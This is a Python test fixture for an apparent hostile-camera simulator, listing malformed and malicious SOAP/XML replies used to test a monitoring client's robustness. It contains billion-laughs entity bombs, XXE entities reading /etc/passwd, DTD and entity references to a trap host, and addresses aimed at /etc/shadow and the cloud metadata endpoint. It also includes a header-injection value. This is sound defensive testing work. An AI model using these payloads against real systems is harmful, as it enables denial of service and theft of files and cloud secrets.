"""XML that bursts, hides, nests or points elsewhere; addresses that lead to other hosts."""

from __future__ import annotations

from collections.abc import Mapping
from itertools import pairwise

from monitor.simulator.hostile.acts import (
    CLOCK,
    INFORMATION,
    PROFILES,
    SERVICES,
    SNAPSHOT,
    SNAPSHOT_URI,
    XML,
    always,
    clock,
    clocks,
    device,
    envelope,
    fault,
    flood,
    http,
    moment,
    profiles,
    services,
    soap,
    uri,
)
from monitor.simulator.hostile.stage import Act, Asked, Misbehaviour, Stage

_TRAP = "127.0.0.2:TRAP!"
_LETTERS = "abcdefghij"
_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise(_LETTERS))
    + "]>"
).encode()
_QUADRATIC = b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 100_000 + b'">]>'
_GONE = http(status="404 Not Found")
_RESPONSE = b"<GetSystemDateAndTimeResponse>%s</GetSystemDateAndTimeResponse>"


def _xml(body: bytes) -> Act:
    """Any XML as the answer to everything."""
    return always(http(body, XML))


def _time(inner: bytes) -> bytes:
    return envelope(_RESPONSE % inner)


def _external(target: str) -> bytes:
    return f'<!DOCTYPE x [<!ENTITY a SYSTEM "{target}">]>'.encode() + _time(moment(Year="&a;"))


async def _undeclared(stage: Stage, _asked: Asked) -> None:
    await stage.say(clock(moment().replace(b"tt:", b"zz:")))


MARKUP: Mapping[str, Misbehaviour] = {
    # -- entities and document types
    "xml_laughs": Misbehaviour("A billion laughs.", _xml(_LAUGHS + _time(b"&j;"))),
    "xml_laughs_attribute": Misbehaviour("A billion laughs in an attribute.", _xml(_LAUGHS + _time(b'<a b="&j;"/>'))),
    "xml_quadratic": Misbehaviour("100 kB, 90,000 times.", _xml(_QUADRATIC + _time(b"&a;" * 90_000))),
    "xml_external_file": Misbehaviour("The year is in /etc/passwd.", _xml(_external("file:///etc/passwd"))),
    "xml_external_host": Misbehaviour("The year is on another host.", _xml(_external(f"http://{_TRAP}/year"))),
    "xml_dtd": Misbehaviour(
        "A document type on another host.",
        _xml(f'<!DOCTYPE x SYSTEM "http://{_TRAP}/x.dtd">'.encode() + _time(moment())),
    ),
    "xml_parameter_entity": Misbehaviour(
        "A parameter entity on another host.",
        _xml(f'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://{_TRAP}/p">%p;]>'.encode() + _time(moment())),
    ),
    "xml_xinclude": Misbehaviour(
        "Includes a file.",
        _xml(_time(b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>')),
    ),
    "xml_stylesheet": Misbehaviour(
        "A style sheet on another host.", _xml(f'<?xml-stylesheet href="http://{_TRAP}/s.xsl"?>'.encode() + _time(b""))
    ),
    "xml_schema": Misbehaviour(
        "A schema on another host.",
        _xml(
            _time(
                f'<a xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="u http://{_TRAP}/s"/>'.encode()
            )
        ),
    ),
    # -- size and shape
    "xml_deep": Misbehaviour("100,000 levels.", _xml(envelope(b"<a>" * 100_000))),
    "xml_rather_deep": Misbehaviour("A time 250 levels down.", _xml(_time(b"<a>" * 250 + moment() + b"</a>" * 250))),
    "xml_wide": Misbehaviour("120,000 elements.", _xml(envelope(b"<a/>" * 120_000))),
    "xml_attributes": Misbehaviour("A million attributes.", always(flood(http(length="99999999") + b"<a ", b"a='' "))),
    "xml_attributes_fit": Misbehaviour(
        "As many attributes as fit.",
        _xml(envelope(b"<a " + b" ".join(b'a%d=""' % number for number in range(40_000)) + b"/>")),
    ),
    "xml_namespaces": Misbehaviour(
        "As many namespaces as fit.",
        _xml(envelope(b"<a " + b" ".join(b'xmlns:a%d="u"' % number for number in range(18_000)) + b"/>")),
    ),
    "xml_nested_services": Misbehaviour(
        "Services within services.",
        device({SERVICES: soap(b"<GetServicesResponse>" + b"<Service>" * 50 + b"<a/>" * 19_000)}),
    ),
    "xml_nested_profiles": Misbehaviour(
        "Profiles within profiles.",
        device({PROFILES: soap(b"<GetProfilesResponse>" + b'<Profiles token="p">' * 50 + b"<a/>" * 19_000)}),
    ),
    "xml_20_mb": Misbehaviour(
        "20 MB of text.", always(flood(http(length="20000000") + b"<s:Envelope><s:Body>", b"text"))
    ),
    "xml_text_fits": Misbehaviour("As much text as fits.", _xml(_time(b"t" * 500_000))),
    "xml_comments": Misbehaviour("Comments, as many as fit.", _xml(b"<!---->" * 70_000 + b"x")),
    "xml_instructions": Misbehaviour("Instructions, as many as fit.", _xml(envelope(b"<?a?>" * 100_000))),
    "xml_errors": Misbehaviour("Wrong tags, as many as fit.", _xml(envelope(b"<a:b>&x;</c>" * 9_000))),
    # -- encodings
    "xml_utf16": Misbehaviour(
        "UTF-16 without any need.",
        _xml(('<?xml version="1.0" encoding="UTF-16"?>' + _time(b"").decode()).encode("utf-16")),
    ),
    "xml_utf16_laughs": Misbehaviour(
        "A billion laughs in UTF-16.", _xml((_LAUGHS + _time(b"&j;")).decode().encode("utf-16"))
    ),
    "xml_utf7": Misbehaviour(
        "UTF-7 hides the brackets.",
        _xml(b'<?xml version="1.0" encoding="UTF-7"?>' + _time(b"<a/>" * 90_000).decode().encode("utf-7")),
    ),
    "xml_unknown_encoding": Misbehaviour(
        "An encoding that nobody knows.", _xml(b'<?xml version="1.0" encoding="x-camera"?>' + _time(b""))
    ),
    "xml_bad_utf8": Misbehaviour("Bytes that no UTF-8 has.", _xml(_time(b"\xff\xfe\xfd" * 9_000))),
    "xml_nuls": Misbehaviour("NULs all over.", _xml(_time(b"\x00" * 9_000))),
    # -- envelopes
    "xml_two_envelopes": Misbehaviour("One envelope behind the other.", _xml(_time(b"") + _time(moment()))),
    "xml_no_body": Misbehaviour("An envelope without a body.", _xml(b'<s:Envelope xmlns:s="u"/>')),
    "xml_empty_body": Misbehaviour("An envelope with nothing in its body.", _xml(envelope(b""))),
    "xml_other_reply": Misbehaviour("The reply to another question.", _xml(envelope(b"<GetHostnameResponse/>"))),
    "xml_html": Misbehaviour("HTML for everything.", always(http(b"<!DOCTYPE html><html><body>camera</body></html>"))),
    "xml_json": Misbehaviour(
        "JSON for everything.", always(http(b'{"error": "no"}', "Content-Type: application/json"))
    ),
    "xml_empty_200": Misbehaviour("200 with nothing.", always(http())),
    "xml_fault_200": Misbehaviour(
        "Every answer is a fault with HTTP 200.", always(fault("no such action", "ActionNotSupported", "200 OK"))
    ),
    "xml_fault_text": Misbehaviour("A fault of 400 kB of text.", always(fault("x" * 400_000, "ActionNotSupported"))),
    "xml_fault_codes": Misbehaviour(
        "A fault with 9,000 codes.", always(soap(b"<s:Fault>" + b"<s:Value>c</s:Value>" * 9_000 + b"</s:Fault>"))
    ),
    "xml_undeclared": Misbehaviour("Prefixes that nobody declared, and a good time.", clocks(_undeclared)),
    # -- addresses
    "xaddr_foreign": Misbehaviour(
        "The media service is on another host.", device({SERVICES: services(f"http://{_TRAP}/onvif/media")})
    ),
    "xaddr_port": Misbehaviour(
        "The media service is on another port.", device({SERVICES: services("http://127.0.0.1:TRAP!/onvif/media")})
    ),
    "xaddr_file": Misbehaviour("The media service is a file.", device({SERVICES: services("file:///etc/passwd")})),
    "xaddr_pathless": Misbehaviour("The media service has no path.", device({SERVICES: services(f"http://{_TRAP}")})),
    "xaddr_credentials": Misbehaviour(
        "The media service's address has a login.", device({SERVICES: services(f"http://u:p@{_TRAP}/m?pwd=x")})
    ),
    "xaddr_long": Misbehaviour("An address of 400 kB.", device({SERVICES: services("http://h/" + "x" * 400_000)})),
    "xaddr_lines": Misbehaviour(
        "An address that would add a header.", device({SERVICES: services("http://h/x&#13;&#10;X-Evil: 1")})
    ),
    "uri_foreign": Misbehaviour(
        "The snapshot is on another host.", device({SNAPSHOT_URI: uri(f"http://{_TRAP}/snap.jpg")})
    ),
    "uri_port": Misbehaviour(
        "The snapshot is on another port of this host.", device({SNAPSHOT_URI: uri("http://127.0.0.1:TRAP!/snap.jpg")})
    ),
    "uri_metadata": Misbehaviour(
        "The snapshot is a cloud's secret.", device({SNAPSHOT_URI: uri("http://169.254.169.254/latest/meta-data/")})
    ),
    "uri_file": Misbehaviour("The snapshot is a file.", device({SNAPSHOT_URI: uri("file:///etc/shadow")})),
    "uri_colons": Misbehaviour(
        "The snapshot's address is all colons.", device({SNAPSHOT_URI: uri("//" + ":" * 400_000), SNAPSHOT: _GONE})
    ),
    "uri_absent": Misbehaviour(
        "No address for the snapshot.", device({SNAPSHOT_URI: soap(b"<GetSnapshotUriResponse/>"), SNAPSHOT: _GONE})
    ),
    "token_400_kb": Misbehaviour(
        "A profile token of 400 kB.", device({PROFILES: profiles("p" * 400_000), SNAPSHOT: _GONE})
    ),
    "token_markup": Misbehaviour(
        "A profile token that would add an element.", device({PROFILES: profiles("&lt;/a&gt;&quot;&lt;b&gt;")})
    ),
    "identity_400_kb": Misbehaviour(
        "A serial number of 400 kB.",
        device(
            {
                INFORMATION: soap(
                    b"<GetDeviceInformationResponse><SerialNumber>"
                    + b"9" * 400_000
                    + b"</SerialNumber></GetDeviceInformationResponse>"
                )
            }
        ),
    ),
    # -- clocks
    "clock_year_0": Misbehaviour("The year 0.", clocks(clock(moment(Year=0)))),
    "clock_year_99999": Misbehaviour("The year 99,999.", clocks(clock(moment(Year=99_999)))),
    "clock_year_9999": Misbehaviour("The last year of any calendar.", clocks(clock(moment(Year=9999)))),
    "clock_year_1": Misbehaviour("The first year of any calendar.", clocks(clock(moment(Year=1)))),
    "clock_year_long": Misbehaviour("A year of 100,000 digits.", clocks(clock(moment(Year="9" * 100_000)))),
    "clock_month_13": Misbehaviour("The 13th month.", clocks(clock(moment(Month=13)))),
    "clock_negative": Misbehaviour("A negative hour.", clocks(clock(moment(Hour=-1)))),
    "clock_second_61": Misbehaviour("The 61st second.", clocks(clock(moment(Second=61)))),
    "clock_missing": Misbehaviour("No hour.", clocks(clock(moment(Hour=None)))),
    "clock_empty": Misbehaviour("No time at all.", clocks(clock(b""))),
    "clock_words": Misbehaviour("The month in words.", clocks(clock(moment(Month="November")))),
    "clock_digits": Misbehaviour("Digits of another script.", clocks(clock(moment(Hour="\u0661\u0662")))),
    "clock_float": Misbehaviour("Not a number.", device({CLOCK: clock(moment(Second="NaN"))})),
}
